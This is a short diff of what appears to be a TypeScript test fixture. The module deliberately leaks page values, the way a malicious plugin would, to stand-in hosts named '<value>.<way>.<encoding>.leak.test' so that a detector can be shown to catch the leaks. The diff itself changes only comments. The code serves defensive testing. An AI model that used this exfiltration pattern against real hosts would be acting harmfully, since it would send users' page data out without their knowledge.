@@ -1,4 +1,5 @@
-// What a plugin would do that tells others what it sees. Runs in the page; every leak goes to a host of its own, `<value>.<way>.<encoding>.leak.test`.
+// Leaks values on purpose, as a malicious plugin would, to prove that the witness notices. Runs in
+// the page; every leak goes to its own host, `<value>.<way>.<encoding>.leak.test`.
 
 export const LEAKS = {
   ways: [
@@ -69,7 +70,7 @@ export async function leak(values: readonly string[]): Promise<void> {
           try {
             await act(`https://${index}.${way}.${encoding}.leak.test/`, encode(value))
           } catch {
-            // A socket is not open yet, a host answers nothing: it was asked all the same.
+            // The socket is not open yet or the host does not answer; the request was made anyway.
           }
         }),
       )
